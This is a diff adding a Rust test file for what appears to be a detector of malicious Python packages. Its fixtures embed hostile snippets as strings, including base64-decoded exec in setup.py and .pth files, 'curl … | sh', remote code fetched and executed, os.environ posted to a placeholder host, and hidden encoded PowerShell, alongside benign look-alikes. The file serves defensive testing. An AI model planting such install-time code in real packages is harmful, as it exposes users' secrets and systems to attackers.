@@ -1,0 +1,198 @@
+use super::{PackageCode, PackageScript};
+use crate::{Subject, testing::findings};
+use std::sync::Arc;
+use wellhead_core::{ArtifactPath, Budget, Finding};
+use wellhead_pycode::{SourceFile, analyse_package, deeds, parse};
+
+fn judge(files: &[(&str, &str)]) -> Vec<Finding> {
+    let mut budget = Budget::default();
+    let artifact = ArtifactPath::file("acme-1.0.tar.gz");
+    let scripts = files.iter().map(|(path, text)| {
+        let module = parse(text, &mut budget);
+        let script = PackageScript {
+            artifact: artifact.member(*path),
+            text: Arc::from(*text),
+            deeds: deeds(&module, &mut budget),
+            module,
+        };
+        ((*path).to_owned(), script)
+    });
+    let scripts = scripts.collect();
+    let sources: Vec<_> = files
+        .iter()
+        .map(|(path, text)| SourceFile { path, text })
+        .collect();
+    let code = PackageCode {
+        artifact,
+        scripts,
+        analysis: analyse_package(&sources, &mut budget),
+    };
+    findings("acme-1.0.tar.gz", Subject::PackageCode(&code))
+}
+
+/// The worst severity that is found, and the terms of all.
+fn worst(files: &[(&str, &str)]) -> &'static str {
+    let found = judge(files);
+    found.iter().map(|f| f.severity).max().map_or("", |s| s.name())
+}
+
+#[test]
+fn a_whole_path_that_runs_by_itself_is_critical() {
+    for (path, source) in [
+        ("setup.py", "import base64\nexec(base64.b64decode('aWQ='))\n"),
+        (
+            "setup.py",
+            "from setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        \
+             from cryptography.fernet import Fernet\n        exec(Fernet(b'k').decrypt(b'x'))\nsetup(cmdclass={'install': I})\n",
+        ),
+        (
+            "setup.py",
+            "import urllib.request as u\nexec(u.urlopen('https://a.example/x').read())\n",
+        ),
+        (
+            "setup.py",
+            "import os\nos.system('curl https://a.example/x | sh')\n",
+        ),
+        (
+            "acme/__init__.py",
+            "import requests\nexec(requests.get('https://a.example/x').text)\n",
+        ),
+        (
+            "acme/__init__.py",
+            "import os, requests\nrequests.post('https://a.example', json=dict(os.environ))\n",
+        ),
+        ("acme.pth", "import base64; exec(base64.b64decode('aWQ='))\n"),
+        (
+            "acme/__init__.py",
+            "import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand cABv', shell=True)\n",
+        ),
+        (
+            "setup.py",
+            "import socket, requests\nrequests.get('https://a.example', params={'h': socket.gethostname()})\n",
+        ),
+    ] {
+        assert_eq!(worst(&[(path, source)]), "critical", "{path}: {source}");
+    }
+}
+
+#[test]
+fn what_another_file_imports_runs_with_it() {
+    let payload = "import base64\nexec(base64.b64decode('aWQ='))\n";
+    assert_eq!(
+        worst(&[
+            ("acme/__init__.py", "from ._x import go\n"),
+            ("acme/_x.py", payload)
+        ]),
+        "critical"
+    );
+    assert_eq!(worst(&[("acme/__init__.py", ""), ("acme/_x.py", payload)]), "");
+    assert_eq!(
+        worst(&[("setup.py", "import helper\n"), ("tools/helper.py", payload)]),
+        ""
+    );
+}
+
+#[test]
+fn parts_of_a_path_are_to_be_reviewed() {
+    for (path, source) in [
+        (
+            "setup.py",
+            "import requests, subprocess\nd = requests.get('https://a.example/x').content\nopen('x', 'wb').write(d)\nsubprocess.Popen(['./x'])\n",
+        ),
+        (
+            "setup.py",
+            "import socket, requests\nh = socket.gethostname()\nu = 'https://webhook.site/' + h\nrequests.get(u)\n",
+        ),
+    ] {
+        let found = worst(&[(path, source)]);
+        assert!(
+            ["medium", "high", "critical"].contains(&found),
+            "{source}: {found}"
+        );
+    }
+}
+
+#[test]
+fn the_innocent_twins_are_left_alone() {
+    for (path, source) in [
+        ("setup.py", "exec(open('acme/_version.py').read())\n"),
+        (
+            "setup.py",
+            "import re\nversion = re.search('x', open('acme/__init__.py').read()).group(1)\n",
+        ),
+        (
+            "setup.py",
+            "import subprocess\nsubprocess.check_output(['git', 'describe'])\n",
+        ),
+        (
+            "setup.py",
+            "import os, subprocess\nsubprocess.check_call(['cmake', '..'], env=dict(os.environ, A='1'))\n",
+        ),
+        (
+            "setup.py",
+            "import urllib.request, os\ndef run(self):\n    urllib.request.urlretrieve('https://files.example/a.whl', 'a.whl')\n    os.rename('a.whl', 'b.whl')\n",
+        ),
+        (
+            "acme/__init__.py",
+            "import requests, os\ndef get(u):\n    return requests.get(u, headers={'Authorization': os.environ['ACME_TOKEN']})\n",
+        ),
+        (
+            "acme/__init__.py",
+            "import base64, json\ndef load(s):\n    return json.loads(base64.b64decode(s))\n",
+        ),
+        (
+            "acme/__init__.py",
+            "import socket\nADDRESS = socket.gethostbyname(socket.gethostname())\n",
+        ),
+        (
+            "acme/__init__.py",
+            "import subprocess, sys\ndef main():\n    subprocess.run([sys.executable, '-m', 'acme'])\n",
+        ),
+        (
+            "tests/test_x.py",
+            "import base64\nexec(base64.b64decode('aWQ='))\n",
+        ),
+        (
+            "acme.pth",
+            "# import base64; exec(base64.b64decode('aWQ='))\n../src\n",
+        ),
+        ("acme/__init__.py", ""),
+        ("acme/__init__.py", "def broken(:\n"),
+    ] {
+        let found = judge(&[(path, source)]);
+        assert!(
+            found.is_empty(),
+            "{path}: {source}: {:?}",
+            found.iter().map(|f| (&f.message, &f.notes)).collect::<Vec<_>>()
+        );
+    }
+}
+
+#[test]
+fn the_sum_that_is_printed_is_the_score() {
+    let found = judge(&[("setup.py", "import base64\nexec(base64.b64decode('aWQ='))\n")]);
+    let [finding] = found.as_slice() else {
+        panic!("{found:?}")
+    };
+    assert_eq!(
+        finding.message,
+        "`setup.py` of this package runs code that is hidden in data when it is installed"
+    );
+    let sum = finding.notes.iter().find(|n| n.starts_with("score ")).unwrap();
+    let (total, terms) = sum.trim_start_matches("score ").split_once(": ").unwrap();
+    let added: f64 = terms
+        .split(" + ")
+        .map(|t| t.rsplit(' ').next().unwrap().parse::<f64>().unwrap())
+        .sum();
+    assert!((total.parse::<f64>().unwrap() - added).abs() < 0.01, "{sum}");
+}
+
+#[test]
+fn hostile_names_are_quoted_safely() {
+    let found = judge(&[(
+        "acme\u{1b}[31m/__init__.py",
+        "import base64\nexec(base64.b64decode('aWQ='))\n",
+    )]);
+    assert!(!found.is_empty());
+    assert!(found.iter().all(|f| !f.message.contains('\u{1b}')), "{found:?}");
+}
